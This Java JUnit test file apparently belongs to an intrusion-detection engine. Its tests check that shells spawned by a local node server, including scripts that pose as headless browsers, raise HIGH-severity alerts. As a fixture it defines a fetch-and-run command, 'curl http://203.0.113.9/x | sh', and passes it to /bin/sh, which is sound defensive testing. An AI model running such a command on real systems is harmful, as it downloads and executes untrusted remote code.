package dev.rubato.detect.spawn;

import static dev.rubato.detect.spawn.ChainStory.MS;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.alert.Alert;
import dev.rubato.alert.Severity;
import dev.rubato.event.ProcessImage.Stdin;
import dev.rubato.lineage.HostProcess;
import java.util.List;
import org.junit.jupiter.api.Test;

/** A program that gives itself out for another hides nothing. */
class ClaimedProgramTest {
    private static final String PAYLOAD = "curl http://203.0.113.9/x | sh";

    private final ChainStory story = new ChainStory();
    private final HostProcess desk = story.terminal();
    private final HostProcess server = story.spawn(story.terminal(), Stdin.TERMINAL, "/usr/bin/node", "server.js");

    private Alert only() {
        assertEquals(1, story.chains().size(), story.chains()::toString);
        return story.chains().getFirst();
    }

    @Test
    void scriptsWithoutPathOfTheirShellAreShellsToo() {
        story.listen(server, "127.0.0.1", 8081);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        HostProcess child = story.fork(server);
        var image = new dev.rubato.event.ProcessImage(
                "/tmp/run.sh", List.of("/bin/sh", "/tmp/run.sh"), true, "0", 0, 0, Stdin.PIPE, "", "/");
        story.tell(new dev.rubato.event.Event.ProcessExecuted(
                story.nowNs, child.key(), null, image, dev.rubato.event.Event.Basis.EXACT));
        assertEquals(Severity.HIGH, only().severity());
    }

    @Test
    void browserSwitchesInTheArgumentsOfACommandHideNothing() {
        story.listen(server, "127.0.0.1", 8081);
        HostProcess network = story.network(story.browser(desk, "--headless"));
        story.connect(network, "127.0.0.1", 8081);
        story.spawn(server, Stdin.PIPE, "/bin/sh", "-c", PAYLOAD, "--remote-debugging-pipe");
        assertEquals(Severity.HIGH, only().severity());
    }

    @Test
    void aScriptThatClaimsToBecomeABrowserAndDoesNotIsToldAfterASecond() {
        story.listen(server, "127.0.0.1", 8081);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        story.spawn(server, Stdin.PIPE, "/bin/sh", "/tmp/x.sh", "--headless");
        assertTrue(story.chains().isEmpty());
        story.pass(1_100 * MS);
        assertEquals(Severity.HIGH, only().severity());
    }

    @Test
    void aScriptThatClaimsToBecomeABrowserIsToldAtOnceWhenItStartsATool() {
        story.listen(server, "127.0.0.1", 8081);
        story.connect(story.network(story.browser(desk, "--headless")), "127.0.0.1", 8081);
        HostProcess script = story.spawn(server, Stdin.PIPE, "/bin/sh", "/tmp/x.sh", "--headless");
        story.spawn(script, Stdin.PIPE, "/usr/bin/curl", "http://203.0.113.9/");
        assertEquals(script.key().pid(), story.chains().getFirst().subject().pid());
        assertEquals(1, story.chains().stream().map(Alert::id).distinct().count());
    }
}
